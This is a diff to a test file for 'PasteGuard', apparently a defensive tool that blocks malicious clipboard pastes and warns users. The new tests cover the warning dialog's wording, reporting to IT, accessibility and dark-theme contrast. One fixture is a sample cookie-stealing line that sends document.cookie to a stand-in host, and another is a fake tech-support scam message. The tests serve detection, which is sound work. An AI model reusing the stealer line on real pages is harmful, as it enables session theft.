@@ -85,7 +85,7 @@ def test_it_says_in_plain_words_what_where_from_and_where_to(
     assert dialog.rest.text() == (
         "A web page put a command on your clipboard that would download and run a program."
     )
-    assert dialog.source.text() == "hxxps://captcha[.]example/verify"
+    assert dialog.source.text() == "captcha[.]example"  # the host: what a person can check
     assert dialog.target.text() == "the Run dialog (Win+R)"
     assert dialog.status.text().startswith("PasteGuard stopped the paste")
     shown = dialog.command.toPlainText()
@@ -107,6 +107,47 @@ def test_why_shows_the_findings_with_their_attack_techniques(
     assert "PowerShell downloads code and runs it at once" in reasons
     assert "ATT&CK T1059.001 (Command and Scripting Interpreter)" in reasons
     assert "ATT&CK T1204.004" in reasons and "hxxps://x[.]example/a.ps1" in reasons
+
+
+STEALER = "fetch('https://grab.example/t?c='+document.cookie)"
+
+
+def test_a_stealer_headline_names_the_host_never_a_placeholder(
+    make_guard, qtbot: QtBot, warn_mode: None
+) -> None:
+    guard: GuardApp = make_guard()
+    warned(guard, qtbot, "javascript:" + STEALER, "https://free-nitro.example/",
+           PasteTarget.TERMINAL)  # fmt: skip
+    dialog = guard.warning
+    shown = [dialog.call.text(), dialog.rest.text(), dialog.summary.text(),
+             dialog.accessibleName(), dialog.accessibleDescription()]  # fmt: skip
+    assert not any("{" in text for text in shown), shown
+    assert "grab[.]example" in dialog.rest.text()
+
+
+def test_a_tech_support_scam_text_says_scam_and_marks_the_number(
+    make_guard, qtbot: QtBot, warn_mode: None
+) -> None:
+    from app.detection.model import Indicator, Level, Verdict
+    from app.guard.service import PasteWarning, digest
+
+    scam = "Microsoft Security: your computer is blocked. Call support now: +1 888 555 0199"
+    verdict = Verdict(Level.SUSPICIOUS, 55, "A tech-support scam.",
+                      indicators=[Indicator("phone", "+1 888 555 0199", "+1 888 555 0199")])  # fmt: skip
+    guard: GuardApp = make_guard()
+    copy(guard, scam, PAGE)
+    warning = PasteWarning(verdict=verdict, target=PasteTarget.OTHER, source=PAGE, window=None,
+                           suppressed=True, neutralized=False, allow_paste_anyway=True,
+                           digest=digest(scam))  # fmt: skip
+    guard.warning.present(warning)
+    dialog = guard.warning
+    assert dialog.call.text() == "This is a scam"
+    assert "call a number" in dialog.rest.text() and "command" not in dialog.rest.text()
+    assert dialog.advice.text().startswith("Don't call the number")
+    assert "Don't run it" not in dialog.advice.text()
+    assert "phone number" in dialog.legend.text()
+    html_text = dialog.command.toHtml()
+    assert "underline" in html_text and "0199" in dialog.command.toPlainText()
 
 
 def test_enter_keeps_me_safe_and_is_logged(make_guard, qtbot: QtBot, warn_mode: None) -> None:
@@ -243,16 +284,33 @@ def test_report_to_it_writes_a_json_report_and_opens_a_mail_draft(
     assert url.scheme() == "mailto" and url.path() == "it-security@corp.example"
     assert str(path) in url.query(QUrl.ComponentFormattingOption.FullyDecoded)
     assert clipboard_text() == MALICIOUS  # the draft took the report, not the clipboard
+    said = guard.warning.result_note.text()
+    assert "it-security@corp.example" in said and "press Send" in said
+    assert "Nothing was sent" not in said
 
 
-def test_report_without_a_mail_address_copies_where_the_report_is(
+def test_report_with_forwarding_says_a_copy_goes_to_the_security_log(
+    make_guard, qtbot: QtBot, profile: Path
+) -> None:
+    write_policy(profile, 'mode = "warn"\n[forward]\nsyslog = "udp://127.0.0.1:9"\n')
+    guard: GuardApp = make_guard()
+    warned(guard, qtbot)
+    qtbot.mouseClick(guard.warning.report, Qt.MouseButton.LeftButton)
+    said = guard.warning.result_note.text()
+    assert "security log" in said and "Nothing was sent" not in said
+    assert last(guard)["kind"] == "reported" and clipboard_text() == MALICIOUS
+
+
+def test_report_without_a_mail_address_says_nothing_was_sent_and_keeps_the_clipboard(
     make_guard, qtbot: QtBot, warn_mode: None
 ) -> None:
     guard: GuardApp = make_guard()
     warned(guard, qtbot)
     qtbot.mouseClick(guard.warning.report, Qt.MouseButton.LeftButton)
     path = str(last(guard)["details"]["report"])  # type: ignore[index]
-    assert clipboard_text() == path and path in guard.warning.result_note.text()
+    said = guard.warning.result_note.text()
+    assert clipboard_text() == MALICIOUS and path in said
+    assert "Nothing was sent" in said and "Send" not in said and "security log" not in said
     after_reflex(qtbot)
     qtbot.keyClick(guard.warning.focusWidget(), Qt.Key.Key_Return)  # focus went back to safety
     assert kinds(guard)[:2] == ["warning_heeded", "reported"]
@@ -289,3 +347,25 @@ def test_every_control_has_a_name_for_screen_readers(
                    dialog.command, dialog.reasons, dialog.summary, dialog.source, dialog.target):  # fmt: skip
         assert widget.accessibleName(), widget
     assert dialog.paste.accessibleDescription().endswith("(not recommended)")
+
+
+def test_in_a_dark_theme_every_sentence_of_the_warning_is_readable(
+    make_guard, qtbot: QtBot, warn_mode: None
+) -> None:
+    from PySide6.QtWidgets import QApplication
+
+    from tests.ui.contrast import dark_palette, rendered_contrast
+
+    app = QApplication.instance()
+    assert isinstance(app, QApplication)
+    light = app.palette()
+    app.setPalette(dark_palette())  # the desktop's dark theme
+    try:
+        guard: GuardApp = make_guard()
+        warned(guard, qtbot)
+        dialog = guard.warning
+        assert dialog.advice.text().startswith("Close the window")
+        for label in (dialog.advice, dialog.call, dialog.rest, dialog.status, dialog.summary):
+            assert rendered_contrast(label) >= 4.5, label.objectName() or label.text()
+    finally:
+        app.setPalette(light)
